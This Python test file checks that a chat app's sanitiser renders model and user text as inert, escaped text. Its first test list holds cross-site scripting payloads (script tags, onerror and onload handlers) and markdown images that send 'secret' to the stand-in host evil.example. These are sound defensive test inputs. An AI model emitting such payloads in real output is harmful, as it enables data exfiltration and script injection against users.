"""What a model or a person wrote may load and run nothing when it is shown, and loses nothing."""

from __future__ import annotations

import html

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mlx_qwen35.app.harmless import answered, as_typed, asked

MARKUP = st.text(alphabet="ab<>!/[]()`$\\\n ~", max_size=60)


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![leak](http://evil.example/?q=secret)",
        "![leak][ref]\n\n[ref]: http://evil.example",
        "$<img src=http://evil.example/>$",
        "<br onclick=alert(1)>",
        "<!-- x --><svg/onload=alert(1)>",
    ],
)
def test_tags_and_images_are_text(text: str) -> None:
    safe = answered(text)
    assert "<" not in safe
    assert "![" not in safe
    assert html.unescape(safe) == text


@pytest.mark.parametrize(
    "text",
    [
        "```html\n<img src=x>\n![a](b)\n```",
        "Use `<div>` and ``![x](y)``.",
        "~~~\n<script>\n~~~",
        "$a<b$ and $$x<y$$ and \\(p<q\\)",
        "H<sub>2</sub>O<br>x",
        "1 < 2, a <- b",
        "[a link](http://example.org)",
    ],
)
def test_code_mathematics_and_plain_tags_stay(text: str) -> None:
    assert answered(text) == text


@given(MARKUP)
def test_nothing_that_is_shown_is_lost(text: str) -> None:
    assert html.unescape(answered(text)) == text


@given(st.text())
def test_an_edited_question_comes_back_as_it_was_typed(text: str) -> None:
    typed = as_typed(text)
    assert as_typed(asked(typed)) == typed


def test_markup_in_a_question_is_no_markup() -> None:
    shown = asked("<img src=x> ![a](b)")
    assert "<img" not in shown
    assert "![" not in shown
